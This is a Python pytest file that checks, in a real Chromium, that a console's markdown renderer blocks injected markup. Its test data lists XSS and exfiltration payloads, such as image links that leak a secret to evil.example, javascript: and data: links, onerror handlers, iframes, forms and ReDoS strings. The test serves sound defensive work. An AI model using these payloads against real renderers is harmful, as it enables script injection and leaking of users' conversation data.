"""What an answer or a title would take out of the console, or put into it, in a real Chromium."""

from __future__ import annotations

from typing import Any

import pytest

from tests.serving.console.conftest import Visit

pytestmark = pytest.mark.soak

SECRET = "what-was-said"
"""A word that must not leave."""
ANSWERS = {
    "an image": f"![x](https://evil.example/p.png?q={SECRET})",
    "an image by reference": f"![x][r]\n\n[r]: https://evil.example/?q={SECRET}",
    "an image in a link": f"[![x](https://evil.example/p.png)](https://evil.example/?q={SECRET})",
    "an image's tag": f"<img src='https://evil.example/?q={SECRET}'>",
    "a tag that fails": "<img src=x onerror=alert(1)>",
    "a picture": "<svg onload=alert(1)><image href='https://evil.example/'></svg>",
    "a script": "<script>alert(1)</script>",
    "a script in code": "```html\n<script>alert(1)</script>\n```",
    "a frame": "<iframe src='https://evil.example'></iframe>",
    "a form": "<form action='https://evil.example'><input name=q></form>",
    "a style": "<style>@import 'https://evil.example/x.css'</style>",
    "a base": "<base href='https://evil.example/'>",
    "another address at once": "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "a script as a link": "[x](javascript:alert(1))",
    "a script as a link, in other letters": "[x](JaVaScRiPt:alert(1)) [y](java\tscript:alert(1))",
    "a script as a link, in entities": "[x](&#106;avascript:alert(1))",
    "data as a link": "[x](data:text/html,<script>alert(1)</script>)",
    "a file as a link": "[x](file:///etc/passwd)",
    "a link without a scheme": "[x](//evil.example)",
    "a link that breaks out of its attribute": '[x](https://a.example/"onmouseover="alert(1))',
    "a title of markup": "# <img src=x onerror=alert(1)>",
    "a table of markup": "| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
    "an expression that backtracks": "*" * 20_000 + "_" * 20_000,
    "brackets without an end": "[" * 30_000 + "](" * 10_000,
}


@pytest.mark.parametrize("text", ANSWERS.values(), ids=ANSWERS)
def test_an_answer_loads_nothing_runs_nothing_and_links_to_the_web_alone(visit: Visit, text: str) -> None:
    asked: list[str] = []
    visit.page.on("request", lambda request: asked.append(request.url))
    made: dict[str, Any] = visit.page.evaluate(
        """async (text) => {
            const { markdown, withMarkers } = await import('/console/markdown.js');
            const host = document.createElement('div');
            host.append(...markdown(withMarkers(text, []), () => ''));
            document.body.append(host);
            const names = [...host.querySelectorAll('*')].map((each) => each.tagName.toLowerCase());
            const attributes = [...host.querySelectorAll('*')].flatMap((each) => each.getAttributeNames());
            const links = [...host.querySelectorAll('a')].map((each) => [each.protocol, each.rel]);
            return { names, attributes, links };
        }""",
        text,
    )
    visit.page.wait_for_load_state("networkidle")
    outside = {"img", "svg", "image", "script", "iframe", "form", "input", "style", "base", "meta", "link"}
    assert not outside & set(made["names"])
    assert not {name for name in made["attributes"] if name.startswith("on")}
    assert all(link == ["https:", "noopener noreferrer"] for link in made["links"])
    assert not [url for url in asked if "evil.example" in url]
